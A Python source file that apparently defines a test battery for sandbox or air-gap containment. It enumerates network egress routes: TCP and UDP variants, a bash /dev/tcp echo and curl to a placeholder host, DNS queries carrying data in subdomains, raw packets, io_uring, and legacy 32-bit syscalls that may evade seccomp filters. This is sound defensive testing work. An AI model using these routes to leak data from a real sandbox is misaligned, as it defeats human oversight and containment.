"""Ways over internet sockets: TCP, UDP, names, echo requests, raw packets, and other families of addresses.

Numbers without a name are those of the kernel's headers: linux/in.h, linux/in6.h, linux/tcp.h, linux/udp.h,
linux/socket.h, linux/io_uring.h, asm/unistd_32.h, asm/unistd_64.h.
"""

from __future__ import annotations

from airgap.battery.way import Way

_NO_6 = "if not os.path.exists('/proc/net/if_inet6'): lacks('no IPv6')\n"
_NAMED_6 = "[2001:db8::10]:{port}"
_UNASKED = {"both": "the call that makes the socket is refused: no place was named yet"}
_OPTION = {"both": "the option is refused, and it alone says where to"}


def _tcp(name: str, code: str, named: str = "{out}:{port}", **more: object) -> Way:
    return Way(name, "TCP", code, named, **more)  # type: ignore[arg-type]


def _udp(name: str, code: str, named: str = "{out}:{port}", **more: object) -> Way:
    return Way(name, "UDP", code, named, **more)  # type: ignore[arg-type]


_MESSAGE = """
def message(to, data=WORD, control=b""):
    keep = [ctypes.create_string_buffer(one, len(one) or 1) for one in (to, data, control)]
    part = ctypes.create_string_buffer(struct.pack("PN", ctypes.addressof(keep[1]), len(data)))
    keep.append(part)
    at = ctypes.addressof
    head = struct.pack("PIxxxxPNPNixxxxIxxxx", at(keep[0]), len(to), at(part), 1,
                       at(keep[2]) if control else 0, len(control), 0, 0)
    return head, keep
def sendmmsg(sock, *messages, flags=0):
    heads = [message(*one) for one in messages]
    all = ctypes.create_string_buffer(b"".join(head for head, _ in heads))
    return libc.sendmmsg(sock.fileno(), all, len(messages), flags)
"""
_OWN_UDP = """
own = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); own.bind(("127.0.0.1", 0))
"""
_MPTCP = """
try: one = socket.socket({family}, socket.SOCK_STREAM, 262)
except OSError:
    lacks("no MPTCP")
"""
_RECONNECT = """
server = socket.create_server(("127.0.0.1", 0))
one = socket.create_connection(server.getsockname()); server.accept()
libc.connect(one.fileno(), bytes(16), 16)
one.connect((OUT, PORT)); one.send(WORD)
"""
_UDP_RECONNECT = (
    _OWN_UDP
    + """
one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); one.connect(own.getsockname()); one.send(b"x")
libc.connect(one.fileno(), bytes(16), 16)
one.connect((OUT, PORT)); one.send(WORD)
"""
)
_BY_NUMBER = """
one = socket.socket(); to = ctypes.create_string_buffer(address(OUT, PORT))
number = {"x86_64": 42, "aarch64": 203}[os.uname().machine]
if call(number, one.fileno(), ctypes.addressof(to), 16) == 0: one.send(WORD)
"""
_NOT_WAITING = """
one = socket.socket(); one.setblocking(False); one.connect_ex((OUT, PORT))
select.select([], [one], [], 3)
with trying(): one.send(WORD)
"""
_BOUND = """
one = socket.socket()
with trying(): one.bind(("192.0.2.1", 0))
one.connect((OUT, PORT)); one.send(WORD)
"""
_DEVICE = """
one = socket.socket()
with trying(): one.setsockopt(1, 25, b"net0")
one.connect((OUT, PORT)); one.send(WORD)
"""
_SOURCE_ROUTE = """
one = socket.socket()
one.setsockopt(0, 4, bytes([131, 7, 4]) + socket.inet_aton(OUT) + b"\\0")
one.settimeout(0.2); one.connect(("192.0.2.1", PORT))
"""
_UNICAST_IF = """
one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
with trying(): one.setsockopt(0, 50, struct.pack("!I", socket.if_nametoindex("net0")))
one.sendto(WORD, (OUT, PORT))
"""
_PACKET_INFO = """
one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
index = 0
with trying(): index = socket.if_nametoindex("net0")
one.sendmsg([WORD], [(0, 8, struct.pack("I4s4s", index, bytes(4), bytes(4)))], 0, (OUT, PORT))
"""
_PACKET_INFO_6 = (
    _NO_6
    + """
one = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
one.sendmsg([WORD], [(41, 50, bytes(16) + struct.pack("I", 0))], 0, (OUT6, PORT))
"""
)
_SEGMENTS = """
one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
one.sendmsg([WORD * 4], [(17, 103, struct.pack("H", len(WORD)))], 0, (OUT, PORT))
"""
_CONTROL = {"seccomp": "a datagram with control messages is refused before its address is read"}
_SPLICE = """
reading, writing = os.pipe(); os.write(writing, WORD)
one = socket.create_connection((OUT, PORT), 3); call(275, reading, 0, one.fileno(), 0, 100, 0)
"""
_SENDFILE = """
one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); one.connect((OUT, PORT))
path = f"{HOME}/till/file-{NUMBER}"
with open(path, "wb") as file: file.write(WORD)
with open(path, "rb") as file: os.sendfile(one.fileno(), file.fileno(), 0, len(WORD))
"""
_MULTICAST = """
one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
with trying(): one.setsockopt(0, 32, socket.inet_aton("192.0.2.1"))
one.sendto(WORD, ("239.1.2.3", PORT))
"""
_MULTICAST_6 = (
    _NO_6
    + """
one = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
with trying(): one.setsockopt(41, 17, socket.if_nametoindex("net0"))
one.sendto(WORD, ("ff0e::7", PORT))
"""
)
_BROADCAST = """
one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
one.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
with trying(): one.setsockopt(1, 25, b"net0")
one.sendto(WORD, ("%s", PORT))
"""
_CORKED = """
one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
one.sendto(WORD, 0x8000, (OUT, PORT)); one.sendto(b"", (OUT, PORT))
"""
_NO_FAMILY = """
one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); to = address(OUT, PORT)
libc.sendto(one.fileno(), WORD, len(WORD), 0, b"\\0\\0" + to[2:], 16)
"""
_LITE = """
one = socket.socket({family}, socket.SOCK_DGRAM, 136)
one.sendto(WORD, ({host}, PORT))
"""

TCP = (
    _tcp("tcp", "speak()"),
    _tcp("tcp-6", _NO_6 + "speak((OUT6, PORT), 10)", _NAMED_6),
    _tcp("tcp-mapped", _NO_6 + "speak(('::ffff:' + OUT, PORT), 10)"),
    _tcp("tcp-dual", _NO_6 + "one = socket.create_connection(('::ffff:192.0.2.10', PORT), 3); one.send(WORD)"),
    _tcp("tcp-not-waiting", _NOT_WAITING),
    _tcp("tcp-by-number", _BY_NUMBER),
    _tcp("tcp-bound", _BOUND),
    _tcp("tcp-device", _DEVICE),
    _tcp("tcp-again", _RECONNECT),
    _tcp("tcp-source-route", _SOURCE_ROUTE, "{out}:{port}", silent=_OPTION),
    _tcp("tcp-low-port", "one = socket.socket(); one.bind(('', 0)); one.connect((OUT, PORT)); one.send(WORD)"),
    _tcp("mptcp", _MPTCP.format(family=2) + "one.connect((OUT, PORT)); one.send(WORD)"),
    _tcp("mptcp-6", _NO_6 + _MPTCP.format(family=10) + "one.connect((OUT6, PORT)); one.send(WORD)", _NAMED_6),
    _tcp("fast-open", "socket.socket().sendto(WORD, 0x20000000, (OUT, PORT))"),
    _tcp("fast-open-6", _NO_6 + "socket.socket(10).sendto(WORD, 0x20000000, (OUT6, PORT))", _NAMED_6),
    _tcp("fast-open-message", "socket.socket().sendmsg([WORD], [], 0x20000000, (OUT, PORT))"),
    _tcp("fast-open-messages",
         _MESSAGE + "one = socket.socket(); sendmmsg(one, (address(OUT, PORT),), flags=0x20000000)"),
    _tcp("fast-open-option", "one = socket.socket()\n"
         "with trying(): one.setsockopt(6, 30, 1)\n"
         "one.connect((OUT, PORT)); one.send(WORD)"),
    _tcp("fast-open-mptcp", _MPTCP.format(family=2) + "one.sendto(WORD, 0x20000000, (OUT, PORT))"),
    _tcp("splice", _SPLICE),
    _tcp("service", "speak(('127.0.0.1', SERVICE))", "127.0.0.1:{service}", has_service=True),
    _tcp("service-any", "speak(('0.0.0.0', SERVICE))", "127.0.0.1:{service}", has_service=True),
    _tcp("service-mapped", _NO_6 + "speak(('::ffff:127.0.0.1', SERVICE), 10)", "127.0.0.1:{service}", has_service=True),
    _tcp("service-fast-open", "socket.socket().sendto(WORD, 0x20000000, ('127.0.0.1', SERVICE))",
         "127.0.0.1:{service}", has_service=True),
    _tcp("curl", "subprocess.run(['curl', '-sm', '4', '--noproxy', '*', f'http://{OUT}:{PORT}/'])"),
    _tcp("bash", "subprocess.run(['bash', '-c', f'echo {WORD.decode()} > /dev/tcp/{OUT}/{PORT}'])"),
    _tcp("perl", "text = f'IO::Socket::INET->new(\"{OUT}:{PORT}\")->send(1)'\n"
         "subprocess.run(['perl', '-MIO::Socket::INET', '-e', text])"),
    _tcp("git", "subprocess.run(['git', 'ls-remote', f'git://{OUT}:{PORT}/{WORD.decode()}'], timeout=5)"),
    _tcp("ssh", "subprocess.run(['ssh', '-F', '/dev/null', '-o', 'BatchMode=yes', '-o', 'ConnectTimeout=3', '-p',"
         " str(PORT), OUT], stdin=subprocess.DEVNULL)"),
    _tcp("c", "attack('connect', WORD.decode(), OUT, PORT)"),
    _tcp("name", "socket.create_connection((f'{WORD.decode()}.example.com', PORT), 3).send(WORD)",
         "{word}.example.com:{port}"),
)  # fmt: skip

UDP = (
    _udp("udp", "socket.socket(2, 2).sendto(WORD, (OUT, PORT))"),
    _udp("udp-connected", "speak(kind=2)"),
    _udp("udp-6", _NO_6 + "socket.socket(10, 2).sendto(WORD, (OUT6, PORT))", _NAMED_6),
    _udp("udp-mapped", _NO_6 + "socket.socket(10, 2).sendto(WORD, ('::ffff:' + OUT, PORT))"),
    _udp("udp-empty", "socket.socket(2, 2).sendto(b'', (OUT, PORT))"),
    _udp("udp-message", "socket.socket(2, 2).sendmsg([WORD], [], 0, (OUT, PORT))"),
    _udp("udp-messages", _MESSAGE + _OWN_UDP + "sendmmsg(socket.socket(2, 2), (address(*own.getsockname()),),"
         " (address(OUT, PORT),))"),
    _udp("udp-again", _UDP_RECONNECT),
    _udp("udp-corked", _CORKED),
    _udp("udp-no-family", _NO_FAMILY),
    _udp("udp-packet-info", _PACKET_INFO, silent=_CONTROL),
    _udp("udp-packet-info-6", _PACKET_INFO_6, _NAMED_6, silent=_CONTROL),
    _udp("udp-segments", _SEGMENTS, silent=_CONTROL),
    _udp("udp-unicast-if", _UNICAST_IF),
    _udp("udp-sendfile", _SENDFILE),
    _udp("udp-broadcast", _BROADCAST % "255.255.255.255", "255.255.255.255:{port}"),
    _udp("udp-network-broadcast", _BROADCAST % "192.0.2.255", "192.0.2.255:{port}"),
    _udp("udp-multicast", _MULTICAST, "239.1.2.3:{port}"),
    _udp("udp-multicast-6", _MULTICAST_6, "[ff0e::7]:{port}"),
    _udp("udp-lite", _LITE.format(family=2, host="OUT"), silent=_UNASKED),
    _udp("udp-lite-6", _NO_6 + _LITE.format(family=10, host="OUT6"), _NAMED_6, silent=_UNASKED),
    _udp("service-udp", "socket.socket(2, 2).sendto(WORD, ('127.0.0.1', SERVICE))", "127.0.0.1:{service}",
         has_service=True),
    _udp("service-udp-connected", "speak(('127.0.0.1', SERVICE), kind=2)", "127.0.0.1:{service}", has_service=True),
)  # fmt: skip

_QUESTION = """
def question(name, kind=1):
    labels = b"".join(bytes([len(one)]) + one for one in name.encode().split(b"."))
    return b"xx\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0" + labels + b"\\0" + struct.pack("!HH", kind, 1)
NAME, SERVER = f"{WORD.decode()}.example.com", ("192.0.2.53", 53)
"""
_NAME = "{word}.example.com:53"
_LONG = """
name = f"{'the-first-piece-of-a-text'}.{'a' * 60}.{'b' * 60}.{WORD.decode()}.example.com"
"""
_BY_LIBC = "libc.gethostbyname(f'{WORD.decode()}.example.com'.encode())"


def _dns(name: str, code: str, named: str = _NAME, **more: object) -> Way:
    return Way(name, "DNS", _QUESTION + code, named, **more)  # type: ignore[arg-type]


DNS = (
    _dns("dns", "socket.getaddrinfo(NAME, 80)"),
    _dns("dns-libc", _BY_LIBC),
    _dns("dns-getent", "subprocess.run(['getent', 'hosts', NAME], stdout=2)"),
    _dns("dns-connected", "one = socket.socket(2, 2); one.connect(SERVER); one.send(question(NAME))"),
    _dns("dns-not-connected", "socket.socket(2, 2).sendto(question(NAME), SERVER)"),
    _dns("dns-text", "socket.socket(2, 2).sendto(question(NAME, 16), SERVER)"),
    _dns("dns-messages", _MESSAGE + "one = socket.socket(2, 2); one.connect(SERVER)\n"
         "sendmmsg(one, (b'', question(NAME)), (b'', question(NAME, 28)))"),
    _dns("dns-long", _LONG + "socket.socket(2, 2).sendto(question(name), SERVER)", "{word}.example.com:53"),
    _dns("dns-case", "socket.socket(2, 2).sendto(question(NAME.upper()), SERVER)"),
    _dns("dns-tcp", "one = socket.create_connection((OUT, 53), 3)\n"
         "text = question(NAME); one.send(struct.pack('!H', len(text)) + text)", "{out}:53"),
    _dns("dns-odd-port", "socket.socket(2, 2).sendto(question(NAME), (OUT, PORT))", "{out}:{port}"),
    _dns("dns-6", _NO_6 + "socket.socket(10, 2).sendto(question(NAME), (OUT6, 53))"),
    _dns("dns-no-question", "socket.socket(2, 2).sendto(WORD, ('192.0.2.53', 53))", "192.0.2.53:53"),
    _dns("dns-multicast", "socket.socket(2, 2).sendto(question(NAME), ('224.0.0.251', 5353))", "224.0.0.251:5353"),
)  # fmt: skip

_ECHO = """
head = struct.pack("!BBHHH", 8, 0, 0, 1, 1) + WORD
total = sum(struct.unpack(f"!{len(head + b'x' * (len(head) % 2)) // 2}H", head + b"\\0" * (len(head) % 2)))
total = (total & 0xFFFF) + (total >> 16); total = ~(total + (total >> 16)) & 0xFFFF
echo = head[:2] + struct.pack("!H", total) + head[4:]
"""
_RAW = """
datagram = struct.pack("!HHHH", 4444, PORT, 8 + len(WORD), 0) + WORD
packet = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(datagram), 1, 0, 64, 17, 0,
                     socket.inet_aton("192.0.2.1"), socket.inet_aton(OUT)) + datagram
if os.getuid(): lacks("raw packets are for root")
"""
_ECHO_SOCKET = """
try: one = socket.socket(2, 2, 1)
except PermissionError: lacks("echo requests are for root here")
"""


def _low(
    name: str, kind: str, code: str, named: str = "{out}:{port}", *, asked: bool = False
) -> Way:
    return Way(name, kind, code, named, silent={} if asked else _UNASKED)


RAW = (
    _low("ping", "ICMP", _ECHO + _ECHO_SOCKET + "one.sendto(echo, (OUT, 0))", "{out}:0", asked=True),
    _low("ping-connected", "ICMP", _ECHO + _ECHO_SOCKET + "one.connect((OUT, 0)); one.send(echo)", "{out}:0",
         asked=True),
    _low("ping-6", "ICMP", _NO_6 + _ECHO + "socket.socket(10, 2, 58).sendto(b'\\x80' + echo[1:], (OUT6, 0))",
         "[2001:db8::10]:0", asked=True),
    _low("raw-echo", "raw", _RAW + _ECHO + "socket.socket(2, 3, 1).sendto(echo, (OUT, 0))"),
    _low("raw-udp", "raw", _RAW + "socket.socket(2, 3, 17).sendto(datagram, (OUT, 0))"),
    _low("raw-packet", "raw", _RAW + "socket.socket(2, 3, 255).sendto(packet, (OUT, 0))"),
    _low("raw-other", "raw", _RAW + "socket.socket(2, 3, 200).sendto(WORD, (OUT, 0))"),
    _low("raw-6", "raw", _NO_6 + _RAW + "socket.socket(10, 3, 200).sendto(WORD, (OUT6, 0))"),
    _low("packet-to", "packet", _RAW + "socket.socket(17, 2, 8).sendto(packet, ('net0', 0x0800, 0, 1, b'\\xff' * 6))"),
    _low("packet-frame", "packet", _RAW + "one = socket.socket(17, 3, 8); one.bind(('net0', 0x0800))\n"
         "one.send(b'\\xff' * 6 + bytes(6) + b'\\x08\\0' + packet)"),
)  # fmt: skip

_FAMILY = """
one = socket.socket({family}, {kind}, {protocol})
"""


def _family(name: str, family: int, kind: int, protocol: int, then: str) -> Way:
    code = _FAMILY.format(family=family, kind=kind, protocol=protocol)
    return Way(name.lower(), "other families", code + then, "address family", silent=_UNASKED)


OTHERS = (
    _family("SCTP", 2, 1, 132, "one.connect((OUT, PORT))"),
    _family("SCTP-many", 2, 5, 132, "one.sendto(WORD, (OUT, PORT))"),
    _family("DCCP", 2, 6, 33, "one.connect((OUT, PORT))"),
    _family("SMC", 43, 1, 0, "libc.connect(one.fileno(), address(OUT, PORT), 16)"),
    _family("RDS", 21, 5, 0, "libc.bind(one.fileno(), address('192.0.2.1', 0), 16)\n"
            "libc.sendto(one.fileno(), WORD, len(WORD), 0, address(OUT, PORT), 16)"),
    _family("TIPC", 30, 2, 0, "raise OSError"),
    _family("VSOCK", 40, 1, 0, "one.bind((1, PORT)); one.connect((1, PORT))"),
)  # fmt: skip
"""A virtual machine's sockets would lead to its host, so they are tried on the machine's own (VMADDR_CID_LOCAL), and
only where that can be bound to: elsewhere the kernel takes it for the host's."""

_RING = """
import mmap
params = ctypes.create_string_buffer(120)
ring = call(425, 4, ctypes.addressof(params))
if ring < 0: raise OSError(ctypes.get_errno(), "io_uring_setup")
tail_at, array_at = (struct.unpack_from("I", params, at)[0] for at in (44, 64))
queue = mmap.mmap(ring, array_at + 16, offset=0)
calls = mmap.mmap(ring, 256, offset=0x10000000)
def submit(operation, fd, at, size=0, flags=0):
    struct.pack_into("=BBHiQQII", calls, 0, operation, 0, 0, fd, *(size, at) if operation == 16 else (0, at),
                     0 if operation == 16 else 1, flags)
    struct.pack_into("I", queue, array_at, 0)
    struct.pack_into("I", queue, tail_at, struct.unpack_from("I", queue, tail_at)[0] + 1)
    return call(426, ring, 1, 1, 1, 0, 0)
to = ctypes.create_string_buffer(address(OUT, PORT), 16)
"""
_OLD = """
import mmap
if os.uname().machine != "x86_64": lacks("no older calls on this machine")
low = mmap.mmap(-1, 4096, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x40, 7)  # MAP_32BIT
at = ctypes.addressof(ctypes.c_char.from_buffer(low))
low[:13] = bytes.fromhex("5389f889f389d189ca") + bytes.fromhex("cd805bc3")  # eax, ebx, ecx; int 0x80
old = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_uint, ctypes.c_uint, ctypes.c_uint)(at)
low[64:80] = address(OUT, PORT)
"""
_X32 = """
if os.uname().machine != "x86_64": lacks("no x32 on this machine")
one, to = socket.socket(), ctypes.create_string_buffer(address(OUT, PORT))
result = call(0x40000000 | 42, one.fileno(), ctypes.addressof(to), 16)
if result < 0 and ctypes.get_errno() == errno.ENOSYS: lacks("this kernel has no x32")
one.send(WORD)
"""

CALLS = (
    Way("ring", "io_uring", _RING + "one = socket.socket(); submit(16, one.fileno(), ctypes.addressof(to), 16)",
        silent=_UNASKED),
    Way("ring-message", "io_uring", _MESSAGE + _RING + "one = socket.socket(2, 2)\n"
        "head, keep = message(address(OUT, PORT))\n"
        "head = ctypes.create_string_buffer(head); submit(9, one.fileno(), ctypes.addressof(head))", silent=_UNASKED),
    Way("old-call", "32 bit calls", _OLD + "one = socket.socket()\n"
        "low[96:108] = struct.pack('=III', one.fileno(), at + 64, 16)\n"
        "if old(102, 3, at + 96) == 0: one.send(WORD)", silent=_UNASKED),
    Way("x32", "32 bit calls", _X32, silent=_UNASKED),
)  # fmt: skip

WAYS = (*TCP, *UDP, *DNS, *RAW, *OTHERS, *CALLS)
